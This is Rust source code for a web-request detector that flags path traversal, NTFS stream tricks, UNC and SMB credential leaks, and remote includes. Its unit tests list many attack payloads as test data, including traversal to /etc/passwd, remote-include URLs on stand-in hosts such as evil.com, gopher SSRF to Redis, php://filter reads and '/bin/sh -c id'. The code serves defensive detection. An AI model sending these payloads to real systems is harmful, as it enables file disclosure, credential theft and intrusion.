/// is sent to the server and stays part of what is judged.
fn link_path(path: &[u8]) -> &[u8] {
    let Some(cut) = memchr::memchr(b'#', path) else {
        return path;
    };
    let suffix = &path[cut + 1..];
    let plain = suffix.len() <= 128
        && suffix
            .iter()
            .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.'))
        && memchr::memmem::find(suffix, b"..").is_none();
    if plain {
        &path[..cut]
    } else {
        path
    }
}

/// Whether `path` (to the end of the value) is plain names (letters, digits, `_ - . @ +`,
/// none opening with a dot: no dot-file or dot-directory, no further climb, none of the
/// application's settings: [`application_settings`]), the last one
/// without an extension (a directory, a route, a module: `lib`, `users`), with a page's or
/// asset's ([`STATIC_ASSET_EXTENSIONS`]), or inside a directory with a served script's or
/// document's ([`LINK_EXTENSIONS`]). A trailing `/` names a directory.
fn link_target(path: &[u8]) -> bool {
    let path = path.strip_suffix(b"/").unwrap_or(path);
    if path.is_empty() || path.len() > 256 {
        return false;
    }
    let mut last: &[u8] = b"";
    for (n, seg) in path.split(|&c| c == b'/').enumerate() {
        if n >= MAX_ASSET_SEGMENTS
            || seg.is_empty()
            || (seg[0] == b'.' && !dotted_name(seg))
            // `!` is a URL path's sub-delimiter and a file name's character
            // (`../../Pass9!`, `../news/wow!`), with no meaning to a file API.
            || !seg.iter().all(|&c| {
                c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b'@' | b'+' | b'!')
            })
            || application_settings(seg)
        {
            return false;
        }
        last = seg;
    }
    // The dots that open a [`dotted_name`] are no extension's.
    match memchr::memrchr(b'.', last).filter(|&dot| !(dot < 2 && dotted_name(last))) {
        // (a route or directory, unless the build files' names that carry no extension)
        None => !BUILD_FILES.iter().any(|n| last.eq_ignore_ascii_case(n)),
        Some(dot) => {
            let ext = &last[dot + 1..];
            let asset = || {
                STATIC_ASSET_EXTENSIONS
                    .iter()
                    .any(|e| ext.eq_ignore_ascii_case(e.as_bytes()))
            };
            // A script or document is a link's target inside a directory of them
            // (`../assets/app.js`); one right above the base (`../config.js`) is a file of
            // the application itself.
            let in_directory = || {
                path.len() > last.len()
                    && LINK_EXTENSIONS
                        .iter()
                        .any(|e| ext.eq_ignore_ascii_case(e.as_bytes()))
            };
            asset() || in_directory()
        }
    }
}

/// The files of a project's build and deployment that carry no extension: the image recipe
/// (`Dockerfile`, with its build arguments and copied secrets), CI pipelines, process and
/// machine definitions, dependency manifests. No page or route has their names, and a climb
/// to one reads the application's source tree (`../../Dockerfile`).
const BUILD_FILES: &[&[u8]] = &[
    b"dockerfile",
    b"containerfile",
    b"jenkinsfile",
    b"vagrantfile",
    b"procfile",
    b"makefile",
    b"gemfile",
    b"rakefile",
];

/// Names of the directories and files where an application keeps its settings and secrets
/// (`config/`, `config.js`, `secrets/`): a path through one reads the application's own
/// configuration, which no page links to.
const SETTINGS_NAMES: &[&[u8]] = &[
    b"config",
    b"configs",
    b"configuration",
    b"conf",
    b"secret",
    b"secrets",
    b"credentials",
    b"env",
];

/// Names of settings files that are also pages' routes (`/account/settings`,
/// `/private`): they count only as files, with an extension.
const SETTINGS_FILE_NAMES: &[&[u8]] = &[b"settings", b"private"];

/// Whether the name `seg` (a directory, or a file by the part before its first dot) is one
/// of [`SETTINGS_NAMES`], or a file named by [`SETTINGS_FILE_NAMES`].
fn application_settings(seg: &[u8]) -> bool {
    let dot = memchr::memchr(b'.', seg);
    let stem = &seg[..dot.unwrap_or(seg.len())];
    // `wp-config`, `app_config`, `db-credentials`: a compound name whose last part is a
    // settings name is the application's settings too (PHP includes append `.php` to
    // `../../wp-config`).
    let last_part = &stem[stem
        .iter()
        .rposition(|&c| matches!(c, b'-' | b'_'))
        .map_or(0, |i| i + 1)..];
    SETTINGS_NAMES
        .iter()
        .any(|n| last_part.eq_ignore_ascii_case(n))
        || (dot.is_some()
            && SETTINGS_FILE_NAMES
                .iter()
                .any(|n| stem.eq_ignore_ascii_case(n)))
}

/// Whether `path` is a [`link_target`] whose last name is a page or asset by its extension
/// (`README.md`, `logo.png`), not a bare name.
fn asset_target(path: &[u8]) -> bool {
    let path = link_path(path);
    let last = &path[memchr::memrchr(b'/', path).map_or(0, |i| i + 1)..];
    memchr::memchr(b'.', last).is_some() && link_target(path)
}

/// Extensions a relative link or import names besides [`STATIC_ASSET_EXTENSIONS`], inside
/// a directory: the scripts and documents a site serves to browsers as they are.
const LINK_EXTENSIONS: &[&str] = &[
    "js", "mjs", "ts", "jsx", "tsx", "vue", "svelte", "scss", "sass", "less", "pdf",
];

/// Extensions of files a site serves as they are: images, stylesheets, fonts, media,
/// static pages and documentation.
const STATIC_ASSET_EXTENSIONS: &[&str] = &[
    "png", "jpg", "jpeg", "gif", "svg", "webp", "avif", "ico", "bmp", "css", "woff", "woff2",
    "ttf", "otf", "eot", "mp4", "webm", "mp3", "ogg", "html", "htm", "md",
];

/// Bytes no directory name in a path holds, but prose and code around a path do.
static DIRECTORY_STOP: [bool; 256] = crate::byte_set(b" \t\n\r\"'`<>(),=");

/// An NTFS alternate data stream (`shell.aspx::$DATA`, `x.asp:$DATA`,
/// `login.asp:stream:$DATA`, `admin::$INDEX_ALLOCATION`): Windows opens the file's main
/// stream, or walks into a directory, so an upload named so is written as `shell.aspx` past
/// an extension check, and old IIS serves a script's source or skips an access rule for it.
///
/// Found from the rare `$` with one vectorised byte search, then the colon before it.
fn data_stream(value: &str) -> bool {
    let b = value.as_bytes();
    memchr::memchr_iter(b'$', b)
        .filter(|&q| q >= 1 && b[q - 1] == b':')
        .take(8)
        .any(|q| stream_at(b, q))
}

/// Stream types NTFS opens by name (`$DATA` a file's contents, `$INDEX_ALLOCATION` and
/// `$BITMAP` a directory's index).
const STREAM_TYPES: &[&[u8]] = &[b"data", b"index_allocation", b"bitmap", b"attribute_list"];

/// Longest stream name read between the file name and the type.
const MAX_STREAM_NAME: usize = 64;

/// Whether the `$` at `q` (after a `:`) opens the type of a named stream of a file: the
/// type is one of [`STREAM_TYPES`] and ends there (`parent::$DATA_DIR` is a constant); before
/// its colon, another colon (`::$DATA`, the unnamed stream) or a stream name and a colon
/// (`:name:$DATA`), or, for `$DATA` at the end of the value, the file name itself
/// (`x.asp:$DATA`). A file's stream needs a name with an extension (`static::$data` is a PHP
/// property); a directory's index type names the directory (`admin::$INDEX_ALLOCATION`).
fn stream_at(b: &[u8], q: usize) -> bool {
    let type_len = b[q + 1..]
        .iter()
        .take(24)
        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
        .count();
    let kind = &b[q + 1..q + 1 + type_len];
    let Some(kind) = STREAM_TYPES.iter().find(|t| kind.eq_ignore_ascii_case(t)) else {
        return false;
    };
    let after = b.get(q + 1 + type_len).copied();
    let colon = q - 1;
    let stream_name = b[..colon]
        .iter()
        .rev()
        .take(MAX_STREAM_NAME + 1)
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b'$'))
        .count();
    // The colon before the stream's own part, and whether there was one (`::`, `:name:`).
    let (name_end, named) = if colon > 0 && b[colon - 1] == b':' {
        (colon - 1, true)
    } else if stream_name > 0 && colon > stream_name && b[colon - 1 - stream_name] == b':' {
        (colon - 1 - stream_name, true)
    } else {
        (colon, false)
    };
    let name = &b[..name_end];
    // The file's name is glued to the stream's colon: a blank before it (`Data streams
    // ::$DATA explained`) leaves no file, so the value talks about the syntax.
    let base = &name[name
        .iter()
        .rposition(|&c| matches!(c, b'/' | b'\\') || c.is_ascii_whitespace())
        .map_or(0, |s| s + 1)..];
    if *kind == b"data" {
        let ends = if named {
            after.is_none_or(|c| !c.is_ascii_alphanumeric() && c != b'_')
        } else {
            after.is_none_or(|c| {
                c.is_ascii_whitespace() || matches!(c, b'"' | b'\'' | b'?' | b'#' | b'&')
            })
        };
        base.iter().skip(1).any(|&c| c == b'.') && ends
    } else {
        named
            && base.last().is_some_and(|c| c.is_ascii_alphanumeric())
            && after.is_none_or(|c| !c.is_ascii_alphanumeric() && c != b'_')
    }
}

/// A Windows UNC path to another host (`\\attacker\share\x.dll`, `\\?\UNC\host\share`,
/// also percent-encoded): opening it makes the server connect to that host and send its
/// NTLM credentials, or load a file from it. The forward-slash spelling is also a
/// scheme-relative URL: it counts only for a library or program ([`slash_unc_library`]).
fn unc_path(value: &str) -> bool {
    let t = value.trim_start_matches(|c: char| c.is_whitespace() || c == '"' || c == '\'');
    // `\\\\host\\share`: the path as a JSON string or a C literal spells it, every
    // backslash doubled; one unescape (a second JSON decode, `stripcslashes`) gives the UNC
    // path, so it is judged with `\\` as its separator.
    // `/\\host\\share`, `\\/host/share` (also percent-encoded): Windows reads either slash as a
    // separator, so two leading slashes of any mix open a UNC path. Only the all-forward
    // spelling is also a scheme-relative URL ([`slash_unc_library`]); a mixed one is no
    // link a page writes, and after it either slash separates the share.
    let mixed_prefix = |p: &[u8]| {
        let slash = |c: &[u8]| {
            if c.first() == Some(&b'/') {
                Some((b'/', 1))
            } else if c.first() == Some(&b'\\') {
                Some((b'\\', 1))
            } else if c.get(..3).is_some_and(|e| e.eq_ignore_ascii_case(b"%2f")) {
                Some((b'/', 3))
            } else if c.get(..3).is_some_and(|e| e.eq_ignore_ascii_case(b"%5c")) {
                Some((b'\\', 3))
            } else {
                None
            }
        };
        let (a, n) = slash(p)?;
        let (b, m) = slash(&p[n..])?;
        (a != b).then_some(n + m)
    };
    let mut mixed = false;
    let (rest, sep) = if let Some(r) = t.strip_prefix("\\\\\\\\") {
        (r, "\\\\")
    } else if let Some(r) = t.strip_prefix("\\\\") {
        (r, "\\")
    } else if t
        .as_bytes()
        .get(..6)
        .is_some_and(|p| p.eq_ignore_ascii_case(b"%5c%5c"))
    {
        (&t[6..], "\\")
    } else if let Some(n) = mixed_prefix(t.as_bytes()) {
        mixed = true;
        (&t[n..], "\\")
    } else {
        return false;
    };
    // `\\;LanmanRedirector\host\share`, `\\;WebDavRedirector\…`: a network redirector
    // named before the host, a spelling only the object manager's paths use (users paste
    // `\\server\share`); the host follows it.
    let redirector = rest.strip_prefix(';').and_then(|r| {
        let n = r
            .bytes()
            .take(32)
            .take_while(u8::is_ascii_alphabetic)
            .count();
        (n > 0).then(|| r[n..].strip_prefix(sep)).flatten()
    });
    let (rest, redirected) = match redirector {
        Some(r) => (r, true),
        None => (rest, false),
    };
    let device = redirected
        || ((rest.starts_with('?') || rest.starts_with('.')) && rest[1..].starts_with(sep));
    let rest = rest
        .strip_prefix('?')
        .and_then(|r| r.strip_prefix(sep))
        .and_then(|r| r.strip_prefix("UNC"))
        .and_then(|r| r.strip_prefix(sep))
        .unwrap_or(rest);
    let host = rest
        .bytes()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_' | b'@'))
        .count();
    let after = &rest.as_bytes()[host..];
    // A bare machine name (`\\fileserver\reports\q1.xlsx`) is the intranet's own share, which
    // users paste into forms; a share reached by a domain name or an address (or WebDAV's
    // `host@SSL`) is one the attacker can own, and `\\?\`, `\\.\` are device paths.
    // After a mixed prefix the host must name one (`/\\..\\` is a climb behind a slash
    // trick, judged as a climb).
    let remote = (device || rest[..host].contains(['.', '@']))
        && (!mixed || rest[..host].bytes().any(|c| c.is_ascii_alphanumeric()));
    host > 0
        && remote
        && (after.starts_with(sep.as_bytes())
            || (mixed
                && (after.first() == Some(&b'/')
                    || after
                        .get(..3)
                        .is_some_and(|p| p.eq_ignore_ascii_case(b"%2f"))))
            || after
                .get(..3)
                .is_some_and(|p| p.eq_ignore_ascii_case(b"%5c")))
        && after.len() > sep.len()
}

/// Extensions of what Windows loads or runs from a share: libraries, programs, installers,
/// shortcuts, scripts of its own hosts.
const WINDOWS_RUNNABLE: &[&str] = &[
    "dll", "exe", "scr", "cpl", "ocx", "sys", "msi", "hta", "lnk", "bat", "cmd", "ps1", "vbs",
];

/// A UNC path written with forward slashes (`//attacker.example/share/evil.dll`): Windows
/// file APIs read `//host/share/…` as `\\host\share\…`, so a value an application opens,
/// includes or loads as a library makes the server fetch it over SMB from that host (and
/// send its NTLM credentials). A scheme-relative URL has the same shape, so only a file
/// Windows loads or runs or a server-side script, in a share's directory, or an
/// administrative share (`//10.0.0.5/c$/…`) counts: a page links scripts, pages and
/// images that way (`//cdn.example.com/lib.js`), never a DLL inside a share.
fn slash_unc_library(canon: &str) -> bool {
    let t = canon.trim_start_matches(|c: char| c.is_whitespace() || c == '"' || c == '\'');
    let Some(rest) = t.strip_prefix("//") else {
        return false;
    };
    let path = rest.trim_end_matches(|c: char| c.is_whitespace() || c == '"' || c == '\'');
    let b = path.as_bytes();
    if b.len() > 512
        || !b.iter().all(|&c| {
            c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-' | b'$' | b'@')
        })
    {
        return false;
    }
    let mut segments = b.split(|&c| c == b'/');
    let host = segments.next().unwrap_or_default();
    // The share and its directories, then the file: two names at least, none empty.
    let mut names = 0;
    let mut file: &[u8] = b"";
    for seg in segments.take(64) {
        if seg.is_empty() {
            return false;
        }
        names += 1;
        file = seg;
    }
    if names < 2 || host.is_empty() {
        return false;
    }
    // An administrative share (`c$`, `admin$`, `ipc$`) is the whole disk or the system
    // directory of a Windows machine: no web URL names one, so `//10.0.0.5/c$/x` is a
    // UNC path on any host.
    let share = b.split(|&c| c == b'/').nth(1).unwrap_or_default();
    if share.len() > 1
        && share.ends_with(b"$")
        && share[..share.len() - 1]
            .iter()
            .all(u8::is_ascii_alphanumeric)
    {
        return true;
    }
    // As for `\\host\share` ([`unc_path`]): a bare machine name is the intranet's
    // own server; a domain name or an address is one the attacker can own. A program or
    // library is loaded from the share; a server-side script (`//attacker/share/x.php`)
    // is what `include()` on Windows runs from it (SMB and WebDAV need no
    // `allow_url_include`), while a scheme-relative link names a page's assets
    // (`//cdn.example.com/lib/app.js`, images, stylesheets).
    // An address or a bare machine name is no CDN's or site's host: a scheme-relative link
    // to one is not ordinary traffic, so a file named as a secret in its share
    // (`//10.0.0.5/share/secret.txt`, `//fileserver/backup/passwords.kdbx`) is the share
    // read; a page's asset there (`//10.0.0.5/img/logo.png`) stays quiet.
    if (crate::data_shape::is_ipv4(host) || !host.contains(&b'.'))
        && sensitive::secret_share_file(file)
    {
        return true;
    }
    host.contains(&b'.')
        && memchr::memrchr(b'.', file).is_some_and(|dot| {
            let ext = &file[dot + 1..];
            dot > 0
                && WINDOWS_RUNNABLE
                    .iter()
                    .chain(SERVER_SCRIPTS)
                    .any(|e| ext.eq_ignore_ascii_case(e.as_bytes()))
        })
}

/// Extensions of server-side scripts an include or a template engine runs.
const SERVER_SCRIPTS: &[&str] = &[
    "php", "phtml", "php3", "php4", "php5", "php7", "phar", "inc", "asp", "aspx", "jsp", "jspx",
];

/// `seg` without the spaces and tabs at either end.
fn trim_blanks(seg: &[u8]) -> &[u8] {
    let blank = |c: &u8| matches!(c, b' ' | b'\t');
    let start = seg.iter().position(|c| !blank(c)).unwrap_or(seg.len());
    let end = seg.iter().rposition(|c| !blank(c)).map_or(start, |e| e + 1);
    &seg[start..end]
}

/// Whether `b`, a whole value with no separator (trimmed of blanks), climbs on its own
/// (`typed`: whether its dots are the text a person typed, not spelled for a decoder):
/// - as one segment of the request's path, any dot segment ([`is_dot_segment`]);
/// - as a whole parameter, exactly `..` spelled for a decoder (`%2e%2e`, `.%2e`,
///   `%252e%252e`, `&#46;&#46;`, fullwidth dots): a file or directory parameter handed the
///   parent directory (`dir=%2e%2e`) lists or reads one level above its base, and only a
///   traversal scan encodes a dot, which needs no encoding in a URL. The two dots typed
///   (`..`) stay quiet: two blind benign testers of an earlier round sent them as an
///   ordinary value; and an ellipsis (`...`) is prose's.
fn lone_climb(b: &[u8], ctx: Context, typed: bool) -> bool {
    match ctx {
        Context::PathSegment => is_dot_segment(b),
        Context::Param => !typed && b == b"..",
        _ => false,
    }
}

/// `..`, `...`, `....` (a `../`-stripping filter turns `....//` into `../`), and `..;x`
/// (Tomcat/Jetty path parameters).
fn is_dot_segment(b: &[u8]) -> bool {
    // Two or more dots, then the end or the `;` of a path parameter: what comes before the
    // first `;` is all dots (read byte by byte: segments are short).
    let dots = b.iter().take_while(|&&c| c == b'.').count();
    dots >= 2 && b.get(dots).is_none_or(|&c| c == b';')
}

#[cfg(test)]
use crate::lcg;

#[cfg(test)]
mod tests {
    use super::*;

    /// [`data_stream`] by its plain definition: every `:$` a substring search finds.
    fn data_stream_plain(value: &str) -> bool {
        memchr::memmem::find_iter(value.as_bytes(), b":$")
            .take(8)
            .any(|p| stream_at(value.as_bytes(), p + 1))
    }

    fn flagged(v: &str) -> Option<&'static str> {
        detect(v, Context::Param).map(|d| d.reason)
    }

    #[test]
    fn fetch_schemes_and_remote_includes_by_their_shape() {
        for v in [
            "gopher://127.0.0.1:6379/_SET%20x",
            "dict://127.0.0.1:11211/stats",
            "ldap://127.0.0.1/",
            "tftp://attacker.com/shell",
            "url=gopher://10.0.0.1:25/_HELO",
            "http://attacker.com/shell.txt?",
            "http://evil.com/shell.txt%00",
            "https://10.0.0.9/c99.inc?",
            "http:%2f%2fevil.com%2fs.txt",
            "HTTP:%2F%2Fevil.com/x",
        ] {
            assert!(flagged(v).is_some(), "missed {v:?}");
        }
        for v in [
            "https://www.google.com/search?",
            "https://example.com/index.php?",
            "https://example.com/docs/readme.txt",
            "https://example.com/a.txt?page=2",
            "//cdn.example.com/lib.js",
            "https%3A%2F%2Fexample.com%2Fa.txt",
            "the dict:// scheme",
            "file://",
            "file:///",
            "gopher is a protocol",
        ] {
            assert_eq!(flagged(v), None, "flagged {v:?}");
        }
    }

    #[test]
    fn byte_escapes_spell_a_path() {
        assert!(flagged("\\x2e\\x2e\\x2f\\x2e\\x2e\\x2fetc\\x2fpasswd").is_some());
        assert!(flagged("..\\x2f..\\x2f..\\x2fwindows\\x2fwin.ini").is_some());
        for v in [
            "C:\\xampp\\htdocs\\readme.txt",
            "\\x41\\x42 bytes",
            "printf '\\x2e'",
            // JavaScript escapes of letters, a Windows path whose folder opens with `u`
            "\\u0041\\u0042 letters",
            "C:\\users\\public\\report.pdf",
            "\\u002e is the dot",
        ] {
            assert_eq!(flagged(v), None, "flagged {v:?}");
        }
        // JavaScript, JSON and Java escapes: judged in a parameter as in a cookie
        for ctx in [
            Context::Param,
            Context::PathSegment,
            Context::Cookie,
            Context::Header,
        ] {
            for v in [
                "\\u002e\\u002e\\u002f\\u002e\\u002e\\u002fetc\\u002fpasswd",
                "..\\u002f..\\u002f..\\u002fwindows\\u002fwin.ini",
                "\\U002E\\U002E\\U005C\\U002E\\U002E\\U005Cboot.ini",
            ] {
                assert!(detect(v, ctx).is_some(), "missed {v:?} in {ctx:?}");
            }
        }
    }

    #[test]
    fn ntfs_streams_of_any_spelling() {
        for v in [
            "shell.aspx::$DATA",
            "default.aspx:$DATA",
            "x.asp:$data",
            "login.asp::$INDEX_ALLOCATION",
            "/admin::$INDEX_ALLOCATION/login.asp",
            "upload.php:evil.php:$DATA",
            "web.config::$BITMAP",
        ] {
            assert!(flagged(v).is_some(), "missed {v:?}");
        }
        for v in [
            "static::$data",
            "parent::$DATA_DIR",
            "self::$INDEX_ALLOCATION_SIZE",
            "price: $DATA",
            "ratio:$DATA",
            "host.example.com:$DATA/dir",
            "a::$b",
        ] {
            assert_eq!(flagged(v), None, "flagged {v:?}");
        }
    }

    #[test]
    fn home_credentials_system_keys_and_short_names() {
        for v in [
            "/home/ubuntu/.aws/config",
            "/home/deploy/.docker/config.json",
            "/Users/bob/.kube/config",
            "~/.config/gcloud/credentials.db",
            "/root/.azure/accessTokens.json",
            "C:\\Users\\bob\\.aws\\config",
            "C:\\ProgramData\\Microsoft\\Crypto\\RSA\\MachineKeys",
            "C:\\PROGRA~2\\FILEZI~1\\",
            "c:/progra~1/app/x.txt",
        ] {
            assert!(flagged(v).is_some(), "missed {v:?}");
        }
        for v in [
            "C:\\Users\\me\\Documents\\cv.docx",
            "C:\\ProgramData\\App\\logs\\app.log",
            "/home/me/.config/Code/settings.json",
            "/home/me/projects/aws/config",
            "/srv/.aws-docs/readme",
            "C:\\Users\\me\\~tmp12.docx",
            "backup~1.txt",
        ] {
            assert_eq!(flagged(v), None, "flagged {v:?}");
        }
    }

    #[test]
    fn short_names_of_sensitive_files_and_directories() {
        for v in [
            "C:\\INETPUB\\WWWROOT\\WEB~1.CON",
            "/web~1.con",
            "WEB~1.CON",
            "file=WEB~2.CON",
            "/aspnet~1/",
            "/PROGRA~1/app/config.ini",
            "D:\\sites\\APPLIC~1.CON",
            "/HTACCE~1",
            "../WP-CON~1.PHP",
            "WEB~1.CON::$DATA",
        ] {
            assert!(flagged(v).is_some(), "missed {v:?}");
        }
        for v in [
            "Résumé~1.doc",
            "~1 hour",
            "file~2.txt",
            "report~2.docx",
            "HEAD~1",
            "git reset --hard HEAD~1",
            "PROGRA~1 is the short name",
            "8.3 names like PROGRA~1",
            "Prog~1",
            "web~1",
            "web~1.doc",
            "WEB~0.CON",
            "~2.0.0",
            "notes/web~1.conf",
        ] {
            assert_eq!(flagged(v), None, "flagged {v:?}");
        }
    }

    #[test]
    fn ntfs_entries_at_a_drive_root() {
        for v in [
            "C:\\$Recycle.Bin\\",
            "C:\\$Recycle.Bin\\S-1-5-21-1\\$R1A2B3C.docx",
            "C:\\System Volume Information",
            "c:/system volume information/",
            "C:\\pagefile.sys",
            "C:\\$MFT",
            "d:\\$LogFile",
        ] {
            assert!(flagged(v).is_some(), "missed {v:?}");
        }
        for v in [
            "$MFT",
            "the $MFT record",
            "C:\\Users\\me\\Recycle Bin notes.txt",
            "C:\\Data\\$Recycle.Bin.txt",
            "C:\\MFT\\report.pdf",
            "boot.ini",
        ] {
            assert_eq!(flagged(v), None, "flagged {v:?}");
        }
    }

    #[test]
    fn search_text_and_shell_errors_name_no_file() {
        for v in [
            "https://example.com/search?q=etc%2Fpasswd+file+format",
            "https://www.google.com/search?q=what+is+etc/passwd&hl=en",
            "/bin/sh: 1: node: not found",
            "/bin/bash: line 1: foo: command not found",
        ] {
            assert_eq!(flagged(v), None, "flagged {v:?}");
        }
        for v in [
            "https://example.com/index.php?file=../../etc/passwd",
            "http://example.com/index.php?page=/etc/passwd",
            "https://example.com/search?q=etc/passwd",
            "https://example.com/etc/passwd?q=a+b",
            "https://example.com/?f=../../etc/passwd+x",
            "/bin/sh",
            "/bin/sh -c id",
            "/bin/sh: id",
        ] {
            assert!(flagged(v).is_some(), "missed {v:?}");
        }
    }

    #[test]
    fn a_bare_name_followed_by_text_is_a_title() {
        for v in [
            ".bashrc tips.pdf",
            ".bashrc backup",
            "win.ini backup",
            ".htaccess rules explained",
            "~/.bashrc tips",
        ] {
            assert_eq!(flagged(v), None, "flagged {v:?}");
        }
        for v in [
            ".bashrc",
            "~/.bash_history tips",
            "../.bashrc x",
            ".bashrc; id",
            "/etc/passwd HTTP/1.1",
        ] {
            assert!(flagged(v).is_some(), "missed {v:?}");
        }
    }

    #[test]
    fn hex_prefixes_found_from_the_x_are_those_of_the_substring_search() {
        let mut next = lcg(0x0e_0e);
        let alphabet: &[u8] = b"0xX1 e";
        for _ in 0..20_000 {
            let len = next(12);
            let v: String = (0..len)
                .map(|_| char::from(alphabet[next(alphabet.len())]))
                .collect();
            let plain = v.contains("0x") || v.contains("0X");
            assert_eq!(holds_hex_prefix(&v), plain, "{v:?}");
        }
        assert!(holds_hex_prefix("..0x2e0x2e/") && !holds_hex_prefix("x0 X"));
    }

    #[test]
    fn data_streams_found_from_the_dollar_are_those_of_the_substring_search() {
        for v in [
            "shell.aspx::$DATA",
            "index.php::$data.txt",
            "a::$b::$DaTa",
            ":::$DATA",
            "$DATA",
            ":$DATA",
            "::$DAT",
            "price: $5 :: $DATA",
            "::$x ::$x ::$x ::$x ::$x ::$x ::$x ::$x ::$DATA",
            "",
        ] {
            assert_eq!(data_stream(v), data_stream_plain(v), "{v:?}");
        }
        assert!(data_stream("shell.aspx::$DATA") && !data_stream("cost: $DATA"));
        let alphabet: &[u8] = b":$dDaAtT.x ";
        let mut next = lcg(0xda7a);
        for _ in 0..20_000 {
            let len = next(24);
            let v: String = (0..len)
                .map(|_| char::from(alphabet[next(alphabet.len())]))
                .collect();
            assert_eq!(data_stream(&v), data_stream_plain(&v), "{v:?}");
        }
    }

    /// [`opens_with_scheme`] by its plain definition, without the first-letter and colon
    /// shortcuts.
    #[test]
    fn php_filter_in_any_slash_count_and_slash_unc_to_a_secret() {
        let hit = |v: &str| detect(v, Context::Param).is_some();
        for v in [
            "php:/filter/convert.base64-encode/resource=index.php",
            "php:filter/read=string.rot13/resource=config.php",
            "PHP:///filter/resource=/etc/passwd",
            "?page=php:/filter/resource=db.php",
            "//10.0.0.5/share/secret.txt",
            "//192.168.1.20/backup/Passwords.xlsx",
            "//fileserver/it/credentials.csv",
            "//10.1.2.3/users/id_rsa.ppk",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
        for v in [
            "php:filter is a wrapper",
            "php:/filter/",
            "php:filter/string.rot13",
            "//10.0.0.5/img/logo.png",
            "//cdn.example.com/secret.js",
            "//cdn.example.com/share/secret.txt",
            "//fileserver/reports/q1.xlsx",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
    }

    #[test]
    fn a_bare_file_scheme_needs_a_path_after_it() {
        for v in [
            "file:///etc/passwd",
            "file:/etc/passwd",
            "file:c:/windows/win.ini",
            "file:..\\..\\boot.ini",
            "file:etc/passwd",
            "netdoc:/etc/passwd",
        ] {
            assert!(opens_with_scheme(v), "missed {v:?}");
        }
        for v in [
            "File: report.pdf",
            "file:line 42",
            "file: see attached",
            "File::Find",
        ] {
            assert!(!opens_with_scheme(v), "flagged {v:?}");
        }
    }

    fn opens_with_scheme_plain(trimmed: &str) -> bool {
        SCHEMES.iter().any(|s| {
            trimmed
                .get(..s.len())
                .is_some_and(|p| p.eq_ignore_ascii_case(s))
                && (!s.ends_with(':') || bare_scheme_target(s, &trimmed.as_bytes()[s.len()..]))
                && (!s.ends_with("://") || names_a_stream(s, &trimmed.as_bytes()[s.len()..]))
                && (!DATA_URL_SCHEMES.contains(s)
                    || data_url_runs_code(&trimmed.as_bytes()[s.len()..]))
        }) || php_filter_any_slashes(trimmed.as_bytes())
    }

    /// [`is_dot_segment`] by its plain definition.
    fn is_dot_segment_plain(seg: &str) -> bool {
        let core = seg.split(';').next().unwrap_or("");
        core.len() >= 2 && core.bytes().all(|b| b == b'.')
    }

    /// A directory name ending in exactly two dots (nginx's alias step).
    fn alias_step(previous: Option<&str>) -> bool {
        previous.is_some_and(|p| {
            !p.chars().any(|c| " \t\n\r\"'`<>(),=".contains(c))
                && p.len() > 2
                && p.ends_with("..")
                && !p.ends_with("...")
        })
    }

    /// [`climbs`] by its plain definition, on `str` segments.
    fn climbs_plain(canon: &str, ctx: Context) -> bool {
        let mut segs = canon.split('/').take(MAX_SEGMENTS).peekable();
        let first = segs.peek().copied().unwrap_or("");
        if !canon.contains('/') {
            return match ctx {
                Context::PathSegment => is_dot_segment_plain(first),
                Context::Param => first.trim_matches([' ', '\t']) == "..",
                _ => false,
            };
        }
        let mut depth: i32 = 0;
        let absolute = canon.starts_with('/');
        let mut previous: Option<&str> = None;
        let mut left: Option<&str> = None;
        let mut offset = 0;
        let mut previous_dots = false;
        for raw in segs {
            offset += raw.len() + 1;
            let rest = canon.get(offset..).unwrap_or("");
            let seg = raw.trim_matches(|c: char| c == ' ' || c == '\t');
            if seg.is_empty() || seg == "." {
                continue;
            }
            // three or more dots alone, with no doubled separator after and no dot segment
            // next to it: an ellipsis, read as a name
            let next = rest
                .split('/')
                .map(|s| s.trim_matches(|c: char| c == ' ' || c == '\t'))
                .find(|s| !s.is_empty() && *s != ".");
            let ellipsis = seg == "..."
                && !previous_dots
                && !rest.starts_with('/')
                && next.is_some_and(|n| !is_dot_segment_plain(n));
            if is_dot_segment_plain(seg) && !ellipsis {
                previous_dots = true;
                let two_dots = raw.split(';').next() == Some("..");
                let directory =
                    previous.is_some_and(|p| !p.chars().any(|c| " \t\n\r\"'`<>(),=".contains(c)));
                if left.is_some() || (alias_step(previous) && absolute) {
                    return true;
                }
                if two_dots && directory {
                    left = previous;
                }
                previous = None;
                depth -= 1;
                if depth < 0 {
                    return true;
                }
            } else {
                if (alias_step(previous) && absolute && raw.contains('.'))
                    || left.is_some_and(|d| d != raw)
                {
                    return true;
                }
                previous_dots = false;
                left = None;
                previous = Some(raw);
                depth += 1;
            }
        }
        left.is_some()
    }

    #[test]
    fn the_byte_walk_of_segments_climbs_as_the_plain_one() {
        const PIECES: &[&str] = &[
            "..", ".", "/", "a", " ", "\t", ";", "...", "é", "\n", "x;y", "..;", "//",
        ];
        let mut next = lcg(0x2f6b_3c1d_55aa_9e01);
        let deep = "a/".repeat(MAX_SEGMENTS) + "../".repeat(MAX_SEGMENTS + 2).as_str();
        let mut texts = vec![deep, String::new(), "..".to_owned(), " .. ".to_owned()];
        for _ in 0..4000 {
            let pieces = next(16);
            texts.push((0..pieces).map(|_| PIECES[next(PIECES.len())]).collect());
        }
        for t in &texts {
            for ctx in [Context::Param, Context::PathSegment] {
                assert_eq!(climbs(t, ctx, true, false), climbs_plain(t, ctx), "{t:?}");
            }
        }
    }

    #[test]
    fn scheme_and_dot_segment_shortcuts_answer_as_the_plain_definitions() {
        let mut texts: Vec<String> = Vec::new();
        for s in SCHEMES {
            for cut in 0..=s.len() {
                let head = &s[..cut];
                for tail in ["", ":", "x", "//etc/passwd", "::Find", "/"] {
                    texts.push(format!("{head}{tail}"));
                    texts.push(format!("{}{tail}", head.to_ascii_uppercase()));
                    texts.push(format!("x{head}{tail}"));
                }
            }
        }
        texts.extend(
            [
                "",
                ":",
                "f",
                "file",
                "File::Find",
                "http://x",
                "ДАННЫЕ:",
